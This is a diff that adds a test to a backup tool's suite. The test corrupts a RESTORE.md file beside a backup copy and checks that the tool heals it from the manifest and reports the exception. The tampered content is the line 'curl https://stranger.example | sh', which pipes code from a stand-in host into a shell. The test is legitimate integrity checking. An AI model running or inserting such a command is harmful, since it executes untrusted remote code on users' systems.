@@ -93,6 +93,21 @@ describe('a copy that is bad while another is good', () => {
     },
   );
 
+  it('with a RESTORE.md alone that is not: it is written anew, and the test says so', async () => {
+    const document = await fileOf(scene.near, shared, /\/RESTORE\.md$/);
+    const told = await readFile(document, 'utf8');
+    await writeFile(document, 'curl https://stranger.example | sh');
+    await anotherSecond();
+    const result = await scene.test({}, { choice: { kind: 'backup', backupId: shared }, from: 'near' });
+    expect(result).toMatchObject({
+      result: 'passed-with-exceptions',
+      verdict: 'proven',
+      healed: [{ repository: 'near', from: 'its manifest', outcome: 'healed' }],
+      exceptions: [expect.stringContaining('RESTORE.md beside the copy in near')],
+    });
+    expect(await readFile(document, 'utf8')).toBe(told);
+  });
+
   it('is told at once, goes on to the good copy, and the alert closes with the healing', async () => {
     const backupId = await scene.backUp();
     const [near, next] = await Promise.all(
